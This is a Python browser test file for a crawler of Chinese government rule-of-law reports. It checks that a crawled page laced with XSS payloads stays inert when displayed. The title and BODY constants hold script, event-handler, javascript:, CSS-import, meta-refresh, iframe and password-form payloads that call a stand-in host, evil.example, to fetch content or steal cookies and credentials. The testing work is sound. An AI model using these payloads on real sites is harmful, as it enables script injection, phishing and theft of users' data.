"""A crawled page full of scripts, handlers, links and style tricks: nothing of it runs or leaves the page."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from fazhi.crawl.run import crawl_all
from fazhi.pages import create_app
from fazhi.settings import Settings
from fazhi.warehouse.database import connect
from fazhi_local.postgres import PostgresServer
from tests.browser.conftest import Elsewhere, served
from tests.databases import database
from tests.evidence.conftest import READER
from tests.province import environment, load, with_roles
from tests.scoring.seed import SAMPLE
from tests.sites import SampleSites

if TYPE_CHECKING:
    from playwright.sync_api import Browser

TITLE = '枕溪区2024年法治政府建设情况报告<img src=x onerror="top.hacked=1">'
BODY = """
<script>top.hacked = 1; document.cookie = "stolen=1"; fetch("http://evil.example/script")</script>
<p onclick="top.hacked = 1" onmouseover="top.hacked = 1">2024年，全区办理行政复议案件76件，办结65件<img src=x
  onerror="top.hacked=1">。</p>
<p><a href="javascript:top.hacked=1" id="trap">点击查看</a>
  <a href="data:text/html,<script>top.hacked=1</script>">附图</a></p>
<p>&lt;script&gt;top.hacked=1&lt;/script&gt; &lt;img src=x onerror=top.hacked=1&gt;</p>
<style>@import url(http://evil.example/style); p { background: url(http://evil.example/css) }
.text, header { display: none !important }</style>
<div style="position:fixed;inset:0;z-index:99999;pointer-events:none;background:url(http://evil.example/cover)">登录</div>
<form action="http://evil.example/form"><input name="password"></form>
<iframe src="http://evil.example/frame"></iframe><svg onload="top.hacked=1"></svg>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><base href="http://evil.example/">
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
"""


@pytest.fixture(scope="module")
def hostile(
    postgres: PostgresServer, migrated_template: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, int]]:
    """The address of the pages of a warehouse that holds one hostile report, and the report's document key."""
    with database(postgres, template=migrated_template) as dsn, SampleSites(SAMPLE) as sites:
        directory: Path = tmp_path_factory.mktemp("hostile")
        settings: Settings = Settings.from_environment(environment(dsn, directory, sites))
        host, column = next(
            (site.host, column.path)
            for site in sites.sites.values()
            if "zhenxi" in site.host
            for column in site.columns
        )
        url = sites.add_page(
            host=host, column=column, title=TITLE, body=BODY, published="2025-03-01T09:00", publisher="枕溪区司法局"
        )
        crawl_all(settings, only=["990221"])
        load(settings)
        with connect(dsn) as connection:
            row = connection.execute("SELECT document_key FROM dw.dim_document WHERE url = %s", (url,)).fetchone()
        assert row is not None
        with served(create_app(with_roles(settings), lambda: READER)) as address:
            yield address, row[0]


def test_nothing_runs_and_nothing_is_asked_elsewhere(
    browser: Browser, elsewhere: Elsewhere, hostile: tuple[str, int]
) -> None:
    address, key = hostile
    context = browser.new_context()
    tab = context.new_page()
    tab.on("dialog", lambda dialog: pytest.fail(dialog.message))
    tab.goto(f"{address}/documents/{key}")
    tab.wait_for_load_state("networkidle")

    assert "办理行政复议案件" in tab.locator(".text").inner_text()
    assert "<script>top.hacked=1</script>" in tab.locator(".text").inner_text()  # shown as what it is
    frame = tab.frame_locator("iframe.original")
    frame.get_by_text("办理行政复议案件").first.hover(timeout=5000)
    frame.get_by_text("点击查看").click(timeout=5000)
    assert tab.evaluate("window.hacked") is None
    assert context.cookies() == []
    assert elsewhere.asked == []
    assert tab.locator("h1").inner_text().startswith("枕溪区2024年")
    assert tab.url == f"{address}/documents/{key}"  # no refresh, no new top
    context.close()


def test_the_original_by_itself_does_nothing_either(
    browser: Browser, elsewhere: Elsewhere, hostile: tuple[str, int]
) -> None:
    address, key = hostile
    context = browser.new_context()
    tab = context.new_page()
    tab.goto(f"{address}/documents/{key}/original")
    tab.wait_for_load_state("networkidle")
    assert tab.evaluate("window.hacked") is None
    assert elsewhere.asked == []
    context.close()


def test_a_page_that_could_ask_elsewhere_would_be_noticed(browser: Browser, elsewhere: Elsewhere) -> None:
    context = browser.new_context()
    tab = context.new_page()
    tab.set_content('<img src="http://evil.example/control">')
    tab.wait_for_load_state("networkidle")
    assert elsewhere.asked == ["/control"]
    elsewhere.asked.clear()
    context.close()
